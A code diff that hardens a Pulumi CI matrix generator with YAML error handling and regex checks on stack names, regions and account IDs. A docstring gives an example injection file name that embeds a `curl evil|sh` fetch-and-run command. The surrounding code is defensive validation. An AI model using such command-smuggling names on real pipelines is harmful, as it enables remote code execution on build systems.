@@ -11,10 +11,12 @@ from __future__ import annotations
 
 import argparse
 import json
+import re
 from pathlib import Path
 from typing import Any
 
 import yaml
+
 
 ENVIRONMENT_ORDER = ("dev", "staging", "prod")  # deploy order: dev first, prod last
 
@@ -47,13 +49,21 @@ def runner_project(stack: str, purpose: str) -> str:
 
 
 def _entry(path: Path) -> dict[str, Any]:
-    stack = path.name[len("Pulumi."):-len(".yaml")]
-    config = (yaml.safe_load(path.read_text()) or {}).get("config") or {}
-    delivery = config.get("higgsfield:delivery") or {}
+    from infra.cli.option_files import OptionFileError
+
+    stack = checked_stack_name(path)
+    try:  # PyYAML alone (this runs in CI before the dependencies): any bytes give one line, never a traceback
+        document = yaml.safe_load(path.read_bytes().decode("utf-8", errors="replace"))
+    except yaml.YAMLError as exc:
+        mark = getattr(exc, "problem_mark", None)
+        raise OptionFileError(f"stacks/{path.name}:{mark.line + 1 if mark else 1}: is not YAML ({' '.join(str(getattr(exc, 'problem', None) or exc).split())})") from None
+    config = document.get("config") if isinstance(document, dict) else None
+    config = config if isinstance(config, dict) else {}
+    delivery = config.get("higgsfield:delivery") if isinstance(config.get("higgsfield:delivery"), dict) else {}
     entry: dict[str, Any] = {"stack": stack, "region": config.get("aws:region"), "environment": config.get("higgsfield:environment")}
     if delivery:
         account = delivery.get("accountId")
-        runner = delivery.get("runner") or {}
+        runner = delivery.get("runner") if isinstance(delivery.get("runner"), dict) else {}
         entry.update({
             "deployEnvironment": delivery.get("deployEnvironment") or stack,
             "previewRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'preview')}",
@@ -66,10 +76,38 @@ def _entry(path: Path) -> dict[str, Any]:
     return entry
 
 
+# infra.config.base.DNS_LABEL, the stack names the config model takes (a test checks they are one):
+# repeated here because this module runs in CI with PyYAML alone (no pydantic).
+STACK_NAME = r"^[a-z0-9]([-a-z0-9]{0,28}[a-z0-9])?$"
+
+
+def checked_stack_name(path: Path) -> str:
+    """The stack a stack file's name names, refused unless it is a stack name (a lowercase DNS
+    label of at most 30): the name goes into CI job matrices, role names and shell commands, so a
+    file named `Pulumi.x;curl evil|sh.yaml` must never become a stack."""
+    from infra.cli.option_files import OptionFileError
+
+    stack = path.name[len("Pulumi."):-len(".yaml")]
+    if not re.fullmatch(STACK_NAME, stack):
+        raise OptionFileError(f"stacks/{path.name}: {stack[:60]!r} is not a stack name (a lowercase DNS label of at most 30: a-z, 0-9, '-'): rename the file")
+    return stack
+
+
+def _checked(entry: dict[str, Any], path: Path) -> dict[str, Any]:
+    """What the matrix carries from a stack file into CI, refused unless it has the shape the
+    config model would give it (the model itself runs in `plan`/`check`)."""
+    from infra.cli.option_files import OptionFileError
+
+    for key, pattern in (("region", r"[a-z]{2}(-[a-z]+)+-\d"), ("account", r"\d{12}"), ("deployEnvironment", r"[A-Za-z0-9._-]{1,255}")):
+        if key in entry and not (isinstance(entry[key], str) and re.fullmatch(pattern, entry[key])):
+            raise OptionFileError(f"stacks/{path.name}: {key} {str(entry[key])[:60]!r} is not one CI can use; run `higgsfield plan {entry['stack']}` for the stack's problems")
+    return entry
+
+
 def stack_matrix(root: Path, delivered_only: bool = False) -> dict[str, list[dict[str, Any]]]:
     """`{"include": [...]}`, one entry per stack file in deploy order (environment, then name);
     with `delivered_only`, only stacks that set higgsfield:delivery (CI previews and deploys those)."""
-    entries = [_entry(p) for p in sorted((root / "stacks").glob("Pulumi.*.yaml"))]
+    entries = [_checked(_entry(p), p) for p in sorted((root / "stacks").glob("Pulumi.*.yaml"))]
     if delivered_only:
         entries = [e for e in entries if "deployRole" in e]
     rank = {env: i for i, env in enumerate(ENVIRONMENT_ORDER)}
